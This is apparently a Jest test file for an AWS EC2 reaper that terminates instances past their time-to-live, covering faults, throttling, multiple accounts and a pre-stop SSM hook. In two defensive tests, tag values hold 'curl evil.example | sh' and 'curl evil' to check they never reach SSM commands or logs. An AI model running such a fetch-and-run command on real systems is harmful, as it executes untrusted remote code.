import { EC2Client } from '@aws-sdk/client-ec2';
import { ListCommandsCommand, SSMClient, SendCommandCommand } from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import fc from 'fast-check';
import { Budget, type Clock } from '../../../lib/lifecycle/handlers/budget';
import { reap } from '../../../lib/lifecycle/handlers/reap';
import type { AccountConfig, ReaperConfig } from '../../../lib/lifecycle/handlers/reaper-config';
import { Report } from '../../../lib/lifecycle/handlers/report';
import { Ec2Fake, type Ec2FakeOptions, type FakeLaunch } from '../../support/ec2-fake';

const HOUR = 3_600_000;
const MINUTE = 60_000;
const mock = mockClient(EC2Client);
const ssmMock = mockClient(SSMClient);
const clientOf = (accessKeyId: string) =>
  new EC2Client({ region: 'us-east-1', credentials: { accessKeyId, secretAccessKey: 'x' } });

const base: ReaperConfig = {
  capSeconds: 24 * 3600,
  scope: { profiles: ['spored-instance-profile'], groups: ['sg-spawn'], subnets: ['subnet-spawn'] },
  accounts: [],
  memberRole: 'arn:aws:iam::<account>:role/spawn-ttl-reaper-ec2',
  incidentTags: ['cdk-spawn:incident'],
  incidentGroups: [],
  exemptions: [],
};
const managed = { 'spawn:managed': 'true' };

/** A clock of its own, beside that of the fake: sleeping passes its time, and each reading a millisecond. */
class TestClock implements Clock {
  public slept = 0;
  public constructor(private time: number) {}
  public now() {
    return (this.time += 1);
  }
  public sleep(milliseconds: number) {
    this.slept += milliseconds;
    this.time += milliseconds;
    return Promise.resolve();
  }
  public random() {
    return 0.5;
  }
}

let ec2: Ec2Fake;
let clock: TestClock;
let logged: Record<string, unknown>[];
/** The other accounts in the order in which they were reached, after how long and with how much time. */
let reached: { id: string; after: number; left: number }[];
function fresh(options?: Ec2FakeOptions) {
  mock.reset();
  ssmMock.reset();
  ec2 = new Ec2Fake(options);
  ec2.install(mock);
}
beforeEach(() => fresh());

const NOBODY: Record<string, () => EC2Client> = {};

async function run(
  config: Partial<ReaperConfig> = {},
  { minutes = 5, skewMs = 0, ssm = false, members = NOBODY } = {},
) {
  clock = new TestClock(ec2.now.getTime() + skewMs);
  logged = [];
  const report = new Report((record) => logged.push({ ...record }));
  reached = [];
  const start = clock.now();
  const reach = {
    own: () => ({ name: 'own', ec2: clientOf('own'), ssm: ssm ? new SSMClient({ region: 'us-east-1' }) : undefined }),
    member: ({ id }: AccountConfig, _role: string, share: Budget) => {
      reached.push({ id, after: clock.now() - start, left: share.left });
      return Promise.resolve({ name: id, ec2: members[id]() });
    },
  };
  await reap({ ...base, ...config }, reach, new Budget(clock, clock.now() + minutes * MINUTE), report);
  return report;
}

const hoursAgo = (hours: number) => new Date(ec2.now.getTime() - hours * HOUR);
const launch = (hours: number, more: FakeLaunch = {}) =>
  ec2.launch({ tags: managed, launchTime: hoursAgo(hours), ...more });
const fleet = (count: number, hours: number) => Array.from({ length: count }, () => launch(hours));
const events = () => logged.map(({ event }) => event);

describe('a run', () => {
  it('terminates what is past its end, and nothing else', async () => {
    const old = launch(25);
    const ttl = launch(3, { tags: { ...managed, 'spawn:ttl': '2h' } });
    const stopped = launch(30, { state: 'stopped' });
    const living = [launch(23), launch(3, { tags: { ...managed, 'spawn:ttl': '4h' } })];
    const foreign = ec2.launch({ launchTime: hoursAgo(9000), tags: { Name: 'database' } });
    const report = await run();
    expect(ec2.living).toEqual([...living, foreign]);
    expect([report.of('Watched'), report.of('Terminated'), report.of('Failed')]).toEqual([5, 3, 0]);
    expect(report.error()).toBeUndefined();
    expect(logged).toContainEqual({
      event: 'terminated',
      account: 'own',
      instance: ttl,
      end: hoursAgo(1).toISOString(),
      reason: 'ttl-tag',
    });
    expect(logged.map(({ instance }) => instance)).toEqual([stopped, old, ttl]);
  });

  it('does nothing a second time', async () => {
    fleet(3, 25);
    await run();
    const calls = ec2.callsOf('TerminateInstances').length;
    const report = await run();
    expect(report.of('Terminated')).toBe(0);
    expect(ec2.callsOf('TerminateInstances')).toHaveLength(calls);
  });

  it('reads page by page, also past empty pages, and terminates in batches', async () => {
    fresh({ pageSize: 7 });
    Array.from({ length: 20 }, () => ec2.launch());
    fleet(120, 25);
    const living = fleet(20, 1);
    await run();
    expect(ec2.living.filter((id) => !living.includes(id))).toHaveLength(20);
    expect(ec2.callsOf('DescribeInstances')).toHaveLength(23);
    expect(ec2.callsOf('TerminateInstances').map(({ input }) => (input.InstanceIds as string[]).length)).toEqual([
      50, 50, 20,
    ]);
  });

  it('sees through tags that were tampered with', async () => {
    const tampered = [
      launch(25, {
        tags: { ...managed, 'spawn:ttl-deadline': '2099-01-01T00:00:00Z', 'spawn:launch-time': '2098-12-31T00:00:00Z' },
      }),
      launch(25, { tags: {}, profileArn: 'arn:aws:iam::111122223333:instance-profile/spored-instance-profile' }),
      launch(25, { tags: {}, securityGroups: ['sg-spawn'] }),
      launch(25, { tags: { 'spawn:managed': 'false' }, subnetId: 'subnet-spawn' }),
      launch(25, { tags: { ...managed, 'spawn:ttl': 'forever' } }),
      launch(25, { tags: { 'spawn:ttl': '8760h' } }),
    ];
    const report = await run();
    expect(ec2.living).toEqual([]);
    expect(report.of('Terminated')).toBe(tampered.length);
    expect(report.of('UnreadableTags')).toBe(1);
    expect(logged).toContainEqual({
      event: 'unreadable tags',
      account: 'own',
      instance: tampered[4],
      keys: ['spawn:ttl'],
    });
  });

  it('is not fooled by stop and start, which renew the launch time', async () => {
    const id = ec2.launch({ tags: managed, state: 'stopped', launchTime: hoursAgo(25) });
    ec2.start(id);
    await run();
    expect(ec2.living).toEqual([]);
  });

  it('keeps tag values out of the log', async () => {
    launch(25, { tags: { ...managed, 'spawn:ttl': 'hunter2', 'spawn:pre-stop': 'curl evil' } });
    await run({ dryRun: 'trial' });
    await run();
    expect(JSON.stringify(logged)).not.toMatch(/hunter2|evil/);
  });
});

describe('what is left alone', () => {
  it('is told and counted: exempted and under incident response', async () => {
    const kept = launch(25);
    const incident = launch(25, { tags: { ...managed, 'cdk-spawn:incident': 'case-7' } });
    const other = launch(25);
    const report = await run({ exemptions: [{ id: kept, until: '2027-01-01T00:00:00Z' }] });
    expect(ec2.living).toEqual([kept, incident]);
    expect(report.of('Spared')).toBe(2);
    expect(report.error()).toBeUndefined();
    expect(logged).toContainEqual(expect.objectContaining({ event: 'spared', instance: incident, why: 'incident' }));
    expect(logged).toContainEqual(expect.objectContaining({ event: 'spared', instance: kept, why: 'exempted' }));
    expect(ec2.callsOf('TerminateInstances').flatMap(({ input }) => input.InstanceIds)).toEqual([other]);
  });

  it('is a protected one; its neighbours in the batch and zone are terminated all the same', async () => {
    const neighbours = fleet(60, 25);
    ec2.protect(neighbours[17]);
    ec2.protect(neighbours[55]);
    const report = await run();
    expect(ec2.living).toEqual([neighbours[17], neighbours[55]]);
    expect([report.of('Terminated'), report.of('Spared'), report.of('Failed')]).toEqual([58, 2, 0]);
    expect(logged).toContainEqual(
      expect.objectContaining({ event: 'spared', instance: neighbours[17], why: 'termination-protection' }),
    );
  });

  it('is everything in a dry run, which says so', async () => {
    const ids = fleet(3, 25);
    const report = await run({ dryRun: 'first week' });
    expect(ec2.living).toEqual(ids);
    expect(ec2.callsOf('TerminateInstances')).toEqual([]);
    expect([report.of('DryRun'), report.of('WouldTerminate'), report.of('Terminated')]).toEqual([1, 3, 0]);
    expect(logged[0]).toEqual({ event: 'dry run', reason: 'first week' });
  });
});

describe('faults', () => {
  it('throttling is waited out', async () => {
    fleet(3, 25);
    ec2.faults.throttle('DescribeInstances', 6);
    ec2.faults.throttle('TerminateInstances', 6);
    const report = await run();
    expect(ec2.living).toEqual([]);
    expect(report.error()).toBeUndefined();
    expect(clock.slept).toBeGreaterThan(10_000);
  });

  it('throttling without end uses up the time, not more, and is told', async () => {
    const ids = fleet(120, 25);
    ec2.faults.throttle('TerminateInstances', Infinity);
    const start = ec2.now.getTime();
    const report = await run();
    expect(clock.now() - start).toBeLessThan(5 * MINUTE + 1000);
    expect(report.of('Failed')).toBe(120);
    // A throttled batch is not halved: that would make more calls of too many.
    expect(ec2.callsOf('TerminateInstances').length).toBeLessThan(40);
    expect(report.error()?.message).toMatch(
      /left work undone: termination failed own i-\w+ RequestLimitExceeded; and 119 more/,
    );
    ec2.faults.clear();
    await run();
    expect(ec2.living).toEqual([]);
    expect(ids).toHaveLength(120);
  });

  it('one bad instance holds up no other', async () => {
    const ids = fleet(70, 25);
    ec2.faults.rejectFor(ids[3], 'TerminateInstances', 'InternalError');
    ec2.faults.rejectFor(ids[42], 'TerminateInstances', 'UnauthorizedOperation');
    const report = await run();
    expect(ec2.living).toEqual([ids[3], ids[42]]);
    expect([report.of('Terminated'), report.of('Failed')]).toEqual([68, 2]);
    expect(report.error()?.message).toContain('and 1 more');
  });

  it('an instance that vanishes meanwhile is no failure', async () => {
    const [gone, here] = fleet(2, 25);
    ec2.faults.rejectFor(gone, 'TerminateInstances', 'InvalidInstanceID.NotFound');
    const report = await run();
    expect(ec2.living).toEqual([gone]);
    expect(report.error()).toBeUndefined();
    expect(logged).toContainEqual(expect.objectContaining({ event: 'terminated', instance: here }));
  });

  it('a call that times out half way is made again', async () => {
    fleet(10, 25);
    ec2.faults.timeOut('TerminateInstances', 4);
    const report = await run();
    expect(ec2.living).toEqual([]);
    expect([report.of('Terminated'), report.of('Failed')]).toEqual([10, 0]);
  });

  it('calls that always time out leave work for the next run, which finishes it', async () => {
    fleet(200, 25);
    ec2.faults.timeOut('TerminateInstances', 1, Infinity);
    expect((await run({}, { minutes: 1 })).error()).toBeDefined();
    ec2.faults.clear();
    expect((await run()).error()).toBeUndefined();
    expect(ec2.living).toEqual([]);
  });

  it('a listing that breaks off half way is told, and what was found by then ends', async () => {
    fresh({ pageSize: 10 });
    const ids = fleet(30, 25);
    ec2.faults.rejectAfter('DescribeInstances', 2, 'InvalidNextToken');
    const report = await run();
    expect(ec2.living).toEqual(ids.slice(20));
    expect(report.of('UnreachableAccounts')).toBe(1);
    expect(report.error()?.message).toContain('InvalidNextToken');
  });

  it('a listing that is throttled without end leaves time to terminate what was found', async () => {
    fresh({ pageSize: 10 });
    const ids = fleet(30, 25);
    ec2.faults.rejectAfter('DescribeInstances', 1, 'RequestLimitExceeded', Infinity);
    const report = await run();
    expect(ec2.living).toEqual(ids.slice(10));
    expect(report.of('UnreachableAccounts')).toBe(1);
    expect(clock.slept).toBeLessThan(151_000);
  });

  it('a listing that takes longer than the run is broken off, and told', async () => {
    fresh({ pageSize: 1 });
    fleet(200, 1);
    const report = await run({}, { minutes: 0.001 });
    expect(report.of('UnreachableAccounts')).toBe(1);
    expect(ec2.callsOf('DescribeInstances').length).toBeLessThan(100);
  });

  it('a denied listing is an unreachable account', async () => {
    const ids = fleet(2, 25);
    ec2.faults.reject('DescribeInstances', 'UnauthorizedOperation');
    const report = await run();
    expect(ec2.living).toEqual(ids);
    expect(report.of('UnreachableAccounts')).toBe(1);
    expect(report.error()?.message).toContain('account unreachable own UnauthorizedOperation');
  });

  it('eventual consistency: what still seems to run is terminated twice, without harm', async () => {
    fresh({ lag: 3 });
    fleet(4, 25);
    for (let look = 0; look < 8; look += 1) expect((await run()).error()).toBeUndefined();
    expect(ec2.living).toEqual([]);
    expect(ec2.callsOf('TerminateInstances').length).toBeGreaterThan(1);
  });

  it('a clock that is behind terminates nothing too early, one far behind is told', async () => {
    const young = launch(23);
    const justLaunched = launch(0);
    expect((await run({}, { skewMs: -4 * MINUTE })).error()).toBeUndefined();
    expect((await run({}, { skewMs: -30 * MINUTE })).error()?.message).toContain('a clock is wrong');
    expect(ec2.living).toEqual([young, justLaunched]);
  });
});

describe('other accounts', () => {
  const accounts = ['444455556666', '777788889999'].map((id) => ({ id, externalId: 'x' }));
  let others: Record<string, Ec2Fake>;
  beforeEach(() => {
    others = Object.fromEntries(accounts.map(({ id }) => [id, new Ec2Fake({ account: id })]));
    ec2.install(mock, async (client) => others[(await client.config.credentials()).accessKeyId] ?? ec2);
    for (const fake of [ec2, ...Object.values(others)]) fake.launch({ tags: managed, launchTime: hoursAgo(25) });
  });
  const members = Object.fromEntries(accounts.map(({ id }) => [id, () => clientOf(id)]));

  it('are reaped like the own one', async () => {
    const report = await run({ accounts }, { members });
    expect([ec2, ...Object.values(others)].flatMap((fake) => fake.living)).toEqual([]);
    expect(report.of('Terminated')).toBe(3);
  });

  it('one that can not be reached is told, and holds up none of the others', async () => {
    const unreachable = {
      ...members,
      '444455556666': () => {
        throw Object.assign(new Error('no'), { name: 'AccessDenied' });
      },
    };
    const report = await run({ accounts }, { members: unreachable });
    expect(others['777788889999'].living).toEqual([]);
    expect(others['444455556666'].living).toHaveLength(1);
    expect(report.of('UnreachableAccounts')).toBe(1);
    expect(report.error()?.message).toContain('account unreachable 444455556666 AccessDenied');
  });

  it('one that always throttles leaves the others their time', async () => {
    ec2.faults.throttle('DescribeInstances', Infinity);
    others['444455556666'].faults.throttle('TerminateInstances', Infinity);
    const report = await run({ accounts }, { members });
    expect(others['777788889999'].living).toEqual([]);
    expect([report.of('UnreachableAccounts'), report.of('Failed')]).toEqual([1, 1]);
    // A third of the five minutes at most for the own account, then half of what is left for the next.
    expect(reached[0].after).toBeLessThan(101_000);
    expect(reached[0].left).toBeLessThan(151_000);
  });

  it('are reached in an order that changes from run to run', async () => {
    await run({ accounts }, { members });
    const first = reached.map(({ id }) => id);
    await run({ accounts }, { members, skewMs: MINUTE });
    expect(reached.map(({ id }) => id)).toEqual([...first].reverse());
  });
});

describe('the stop hook', () => {
  const stop = { document: 'Stop-Gently', seconds: 60 };
  const answer = (...statuses: string[]) => {
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: 'c-1' } });
    for (const Status of statuses)
      ssmMock.on(ListCommandsCommand).resolvesOnce({ Commands: [{ Status: Status as 'Success' }] });
  };

  it('runs the document of the platform on running instances before it terminates all', async () => {
    const running = launch(25, { tags: { ...managed, 'spawn:pre-stop': 'curl evil.example | sh' } });
    launch(25, { state: 'stopped' });
    answer('InProgress', 'Success');
    let livingAtStop: string[] = [];
    ssmMock.on(SendCommandCommand).callsFake(() => {
      livingAtStop = ec2.living;
      return { Command: { CommandId: 'c-1' } };
    });
    const report = await run({ stop }, { ssm: true });
    const { input } = ssmMock.commandCalls(SendCommandCommand)[0].args[0];
    expect(input).toMatchObject({ DocumentName: 'Stop-Gently', Targets: [{ Key: 'InstanceIds', Values: [running] }] });
    expect(input.Parameters).toBeUndefined();
    expect(JSON.stringify(input)).not.toContain('evil');
    expect(livingAtStop).toHaveLength(2);
    expect(ec2.living).toEqual([]);
    expect(report.of('StopFailed')).toBe(0);
  });

  it.each<[string, () => void]>([
    [
      'takes too long',
      () => {
        answer();
        ssmMock.on(ListCommandsCommand).resolves({ Commands: [{ Status: 'InProgress' }] });
      },
    ],
    ['fails', () => answer('Failed')],
    [
      'is refused',
      () => ssmMock.on(SendCommandCommand).rejects(Object.assign(new Error(), { name: 'AccessDeniedException' })),
    ],
    [
      'is throttled without end',
      () => ssmMock.on(SendCommandCommand).rejects(Object.assign(new Error(), { name: 'ThrottlingException' })),
    ],
    ['gets no answer', () => answer()],
  ])('keeps no instance alive when it %s', async (_, prepare) => {
    launch(25);
    prepare();
    const report = await run({ stop }, { ssm: true });
    expect(ec2.living).toEqual([]);
    expect(report.of('StopFailed')).toBe(1);
    expect(report.error()).toBeUndefined();
    expect(clock.slept).toBeLessThanOrEqual(61_000);
    expect(events()).toContain('stop hook failed');
  });

  it('is not called in a dry run, nor where nothing is due', async () => {
    launch(1);
    await run({ stop }, { ssm: true });
    launch(25);
    await run({ stop, dryRun: 'trial' }, { ssm: true });
    expect(ssmMock.calls()).toHaveLength(0);
  });

  it('asks many instances in batches that Run Command takes', async () => {
    fleet(120, 25);
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: 'c-1' } });
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [{ Status: 'Success' }] });
    await run({ stop }, { ssm: true });
    const sizes = ssmMock.commandCalls(SendCommandCommand).map(({ args }) => args[0].input.Targets?.[0].Values?.length);
    expect(sizes).toEqual([50, 50, 20]);
    expect(ec2.living).toEqual([]);
  });
});

describe('whatever goes wrong', () => {
  const machine = fc.record({
    ageHours: fc.integer({ min: 0, max: 48 }),
    ttlHours: fc.option(fc.integer({ min: 1, max: 40 }), { nil: undefined }),
    managed: fc.boolean(),
    inSubnet: fc.boolean(),
    guarded: fc.boolean(),
    incident: fc.boolean(),
    zone: fc.constantFrom('us-east-1a', 'us-east-1b'),
  });
  const fault = fc.constantFrom<(fake: Ec2Fake, ids: string[]) => void>(
    (fake) => fake.faults.throttle('DescribeInstances', 3),
    (fake) => fake.faults.throttleEvery('TerminateInstances', 2),
    (fake) => fake.faults.timeOut('TerminateInstances', 1, 2),
    (fake) => fake.faults.reject('TerminateInstances', 'InternalError', 5),
    (fake) => fake.faults.reject('DescribeInstances', 'UnauthorizedOperation', 1),
    (fake, ids) => fake.faults.rejectFor(ids[0], 'TerminateInstances', 'InternalError', 9),
  );

  it('nothing ends that should live, and after one run in peace nothing lives past its end', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(machine, { minLength: 1, maxLength: 40 }),
        fc.array(fault, { maxLength: 3 }),
        fc.integer({ min: 0, max: 2 }),
        async (machines, faults, lag) => {
          fresh({ pageSize: 6, lag });
          const shouldLive: string[] = [];
          const ids = machines.map(({ ageHours, ttlHours, managed: tagged, inSubnet, guarded, incident, zone }) => {
            const id = ec2.launch({
              launchTime: hoursAgo(ageHours),
              tags: {
                ...(tagged && managed),
                ...(tagged && ttlHours !== undefined && { 'spawn:ttl': `${ttlHours}h` }),
                ...(incident && { 'cdk-spawn:incident': 'x' }),
              },
              subnetId: inSubnet ? 'subnet-spawn' : 'subnet-other',
              terminationProtected: guarded,
              zone,
            });
            const end = Math.min(24, (tagged ? ttlHours : undefined) ?? 24);
            if (!(tagged || inSubnet) || guarded || incident || ageHours < end) shouldLive.push(id);
            return id;
          });
          for (const add of faults) add(ec2, ids);
          for (let round = 0; round <= lag; round += 1) await run();
          for (const id of shouldLive) expect(ec2.living).toContain(id);
          ec2.faults.clear();
          for (let round = 0; round <= lag; round += 1) await run();
          expect(ec2.living).toEqual(shouldLive);
        },
      ),
      { numRuns: 60 },
    );
  });
});
